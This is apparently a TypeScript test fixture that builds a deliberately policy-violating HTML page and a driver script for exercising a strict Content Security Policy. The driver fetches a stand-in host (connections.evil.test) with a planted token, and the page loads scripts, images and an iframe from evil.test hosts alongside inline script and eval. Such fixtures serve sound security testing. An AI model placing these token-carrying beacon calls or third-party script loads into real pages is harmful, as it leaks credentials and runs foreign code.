/** Where the apps serve {@link VIOLATING_PAGE}. */
export const VIOLATING_PATH: string = '/violating'

/** Does what markup cannot, says so, and goes where it is sent: whoever drives the browser answers when it knows enough. */
export const DRIVER: string = `
fetch('https://connections.evil.test/?token=planted').catch(() => {})
try { eval('1') } catch {}
fetch('/drive/next?at=' + encodeURIComponent(location.href)).then((answer) => answer.text()).then((url) => { location.href = url })
`

/** A page that a strict policy finds much to block in, each kind of it once. */
export const VIOLATING_PAGE: string = `<!doctype html>
<title>Violating</title>
<style>p { margin: 0 }</style>
<p style="color: red">A page that does what its policy forbids.</p>
<a onclick="1">A link</a>
<script>globalThis.ran = true</script>
<script src="https://scripts.evil.test/planted.js?token=planted"></script>
<img src="https://images.evil.test/planted.png?token=planted" alt="">
<iframe src="https://frames.evil.test/planted?token=planted"></iframe>
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="">
<script>${DRIVER}</script>
`
